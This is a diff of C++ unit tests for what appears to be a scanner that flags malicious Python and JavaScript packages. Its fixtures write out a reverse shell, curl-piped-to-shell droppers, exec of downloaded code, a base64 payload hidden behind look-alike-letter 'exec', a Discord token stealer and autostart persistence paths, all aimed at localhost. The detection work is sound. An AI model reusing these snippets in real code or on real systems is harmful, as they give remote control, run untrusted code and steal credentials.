@@ -82,16 +82,80 @@ const std::string kReverseShell =
     "os.dup2(s.fileno(),2)\n"
     "subprocess.call([\"/bin/sh\",\"-i\"])\n";
 
+// --- flows (flows.h) and disguised names (disguise.h) -------------------------------------
+
+TEST(Signals, a_python_reverse_shell_written_as_code_is_a_reverse_shell_at_its_shell) {
+  expect_facts(py(kReverseShell), {{FactKind::kShell, "reverse-shell", 7, "subprocess.call([\"/bin/sh\",\"-i\"])"},
+                                   {FactKind::kSend, "socket", 2, "socket.socket("}});
+  // A shell started with its input piped, over two lines, in a file that connects.
+  expect_facts(py("import socket, subprocess\n"
+                  "s = socket.create_connection(('127.0.0.1', 9))\n"
+                  "p = subprocess.Popen(\n"
+                  "    ['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"),
+               {{FactKind::kShell, "reverse-shell", 4, "['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)"},
+                {FactKind::kSend, "socket", 2, "create_connection("}});
+}
+
+TEST(Signals, a_shell_started_in_a_file_that_makes_no_connection_is_no_reverse_shell) {
+  EXPECT_TRUE(py("import subprocess\n"
+                 "subprocess.call(['/bin/sh', '-c', 'true'], stdin=subprocess.PIPE)\n")
+                  .empty());
+}
+
+TEST(Signals, code_a_download_brings_handed_to_exec_is_fetched_executed) {
+  // Straight in, and through names over lines, as far as a thread's target.
+  expect_facts(py("import requests\n"
+                  "exec(requests.get('http://127.0.0.1/x').text)\n"),
+               {{FactKind::kFetchedExecuted, "python", 2, "exec(requests.get('http://127.0.0.1/x').text)"},
+                {FactKind::kSend, "http", 2, "requests.get("}});
+  expect_facts(
+      py("import threading, urllib.request\n"
+         "r = urllib.request.urlopen('http://127.0.0.1/x')\n"
+         "body = r.read()\n"
+         "code = body.decode()\n"
+         "threading.Thread(target=exec, args=(code, {}), daemon=True).start()\n"),
+      {{FactKind::kFetchedExecuted, "python", 5, "threading.Thread(target=exec, args=(code, {}), daemon=True).start()"},
+       {FactKind::kSend, "http", 2, "urlopen("}});
+}
+
+TEST(Signals, a_download_and_an_exec_of_something_else_are_no_flow) {
+  // setup.py's own version file read and exec'ed beside a download: two things, no flow.
+  expect_facts(py("import requests\n"
+                  "data = requests.get('http://127.0.0.1/x').json()\n"
+                  "ns = {}\n"
+                  "exec(open('pkg/version.py').read(), ns)\n"
+                  "pattern = re.compile(data['pattern'])\n"),
+               {{FactKind::kSend, "http", 2, "requests.get("}});
+}
+
+TEST(Signals, a_name_in_look_alike_letters_is_disguised_and_the_file_is_read_as_python_reads_it) {
+  // ℯ𝓍ℯ𝒸 (script e, x, e, c) is exec to Python; the payload under it is then seen too.
+  const std::string src = "import base64\n\u212f\U0001D4CD\u212f\U0001D4B8(base64.b64decode(\"" +
+                          b64("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n") + "\"))\n";
+  expect_facts(py(src), {{FactKind::kDisguisedName, "exec", 2, "\u212f\U0001D4CD\u212f\U0001D4B8 reads as exec"},
+                         {FactKind::kShell, "download-piped-to-shell", 2,
+                          "decoded (base64): curl -fsSL http://127.0.0.1/i | sh"},
+                         {FactKind::kDecodedExecuted, "base64", 2,
+                          excerpt("base64: import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n")}});
+}
+
+TEST(Signals, look_alike_letters_in_a_string_a_comment_or_javascript_are_not_a_disguise) {
+  EXPECT_TRUE(py("x = '\u212f\U0001D4CD\u212f\U0001D4B8'  # \u212f\U0001D4CD\u212f\U0001D4B8\n").empty());
+  EXPECT_TRUE(js("const \u212f\U0001D4CD = 1;\n").empty());
+}
+
 // --- decoded payloads -------------------------------------------------------------------
 
 TEST(Signals, a_base64_python_reverse_shell_under_exec_is_decoded_executed_with_its_inner_facts) {
   const std::string src = "import base64\nexec(base64.b64decode(\"" + b64(kReverseShell) + "\"))\n";
   const auto facts = py(src);
   // The payload's own facts come first, at the line of the string they were decoded from.
-  expect_facts(facts, {
-                          {FactKind::kSend, "socket", 2, "decoded (base64): socket.socket("},
-                          {FactKind::kDecodedExecuted, "base64", 2, excerpt("base64: " + kReverseShell)},
-                      });
+  expect_facts(facts,
+               {
+                   {FactKind::kShell, "reverse-shell", 2, "decoded (base64): subprocess.call([\"/bin/sh\",\"-i\"])"},
+                   {FactKind::kSend, "socket", 2, "decoded (base64): socket.socket("},
+                   {FactKind::kDecodedExecuted, "base64", 2, excerpt("base64: " + kReverseShell)},
+               });
   for (const Fact& f : facts) {
     EXPECT_EQ(f.file, "pkg/setup.py");
     EXPECT_EQ(f.phase, Phase::kUnknown);
@@ -237,6 +301,54 @@ TEST(Signals, a_javascript_child_process_exec_of_a_download_piped_to_sh_is_a_she
   expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
 }
 
+// An esbuild chunk (vercel's CLI has 149): its own facts, and that it is a bundler's output,
+// which the worker weighs as a vendored copy unless it runs at install or import.
+TEST(Signals, a_bundlers_output_with_a_fact_is_said_to_be_generated_at_its_helper) {
+  const auto facts =
+      js("import{__commonJS,__require}from\"./chunk-B.js\";\n"
+         "var require_x=__commonJS({\"../../node_modules/x/index.js\"(exports){\n"
+         "const cp = require('child_process');\n"
+         "cp.exec('curl -fsSL http://127.0.0.1/i.sh | sh');\n"
+         "}});\n");
+  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 4, "curl -fsSL http://127.0.0.1/i.sh | sh"},
+                       {FactKind::kGenerated, "bundle", 2, "__commonJS("}});
+}
+
+TEST(Signals, a_bundle_without_facts_or_a_helper_named_in_a_string_or_in_python_is_not_said) {
+  EXPECT_TRUE(js("var require_x=__commonJS({\"x.js\"(exports){ exports.a = 1; }});\n").empty());
+  const auto named =
+      js("const cp = require('child_process');\n"
+         "cp.exec('curl -fsSL http://127.0.0.1/i.sh | sh');\n"
+         "const s = '__commonJS(';\n");
+  expect_facts(named, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
+  const auto python =
+      py("import os\n"
+         "os.system('curl -fsSL http://127.0.0.1/i.sh | sh')\n"
+         "__commonJS(1)\n");
+  expect_facts(python, {{FactKind::kShell, "download-piped-to-shell", 2, "curl -fsSL http://127.0.0.1/i.sh | sh"}});
+}
+
+// an0n-chat-lib's stealer: a Startup-folder script written (path.join of the home and the
+// folder, Windows' separators or not) and a Discord store without its leading slash.
+TEST(Signals, an_autostart_place_and_a_relative_discord_store_are_seen) {
+  expect_facts(
+      js("const f = path.join(os.homedir(), 'AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.cmd');\n"
+         "const d = path.join(os.homedir(), 'AppData', dir, 'Local Storage/leveldb');\n"
+         "const k = 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run';\n"),
+      {{FactKind::kCollect, "token-store", 2, "local storage/leveldb"},
+       {FactKind::kPersist, "autostart", 1, "start menu/programs/startup"},
+       {FactKind::kPersist, "autostart", 3, "microsoft/windows/currentversion/run"}});
+}
+
+// A home directory is where an installer keeps its cache (@sentry/cli's postinstall asks it
+// and then downloads its binary): not who the host is.
+TEST(Signals, javascript_os_homedir_is_not_host_identity) {
+  expect_facts(js("const os = require('os');\n"
+                  "const dir = os.homedir() + '/.cache/x';\n"
+                  "fetch('https://127.0.0.1/bin').then(r => r.arrayBuffer());\n"),
+               {{FactKind::kSend, "http", 3, "fetch("}});
+}
+
 TEST(Signals, a_command_line_written_in_a_string_that_nothing_runs_is_not_a_shell_fact) {
   // os.system here is inside a string: printed, not called.
   EXPECT_TRUE(py("print(\"os.system('curl -fsSL http://127.0.0.1/i.sh | sh')\")\n").empty());
@@ -306,7 +418,7 @@ TEST(Signals, a_discord_leveldb_path_and_a_webhook_url_are_a_token_store_and_a_w
          "requests.post(\"http://localhost/discord.com/api/webhooks/1/x\", data=open(p).read())\n");
   expect_facts(facts, {
                           {FactKind::kCollect, "token-store", 2, "discord"},
-                          {FactKind::kCollect, "token-store", 2, "/local storage/leveldb"},
+                          {FactKind::kCollect, "token-store", 2, "local storage/leveldb"},
                           {FactKind::kSend, "http", 3, "requests.post("},
                           {FactKind::kSend, "webhook", 3, "discord.com/api/webhooks"},
                       });
@@ -407,6 +519,10 @@ TEST(Signals, fact_and_phase_names_are_those_the_json_says) {
   EXPECT_EQ(fact_name(FactKind::kSend), "send");
   EXPECT_EQ(fact_name(FactKind::kRunsAtInstall), "runs-at-install");
   EXPECT_EQ(fact_name(FactKind::kRunsAtRequire), "runs-at-require");
+  EXPECT_EQ(fact_name(FactKind::kGenerated), "generated");
+  EXPECT_EQ(fact_name(FactKind::kDisguisedName), "disguised-name");
+  EXPECT_EQ(fact_name(FactKind::kFetchedExecuted), "fetched-executed");
+  EXPECT_EQ(fact_name(FactKind::kPersist), "persist");
   EXPECT_EQ(phase_name(Phase::kUnknown), "");
   EXPECT_EQ(phase_name(Phase::kInstall), "install");
   EXPECT_EQ(phase_name(Phase::kRequire), "require");
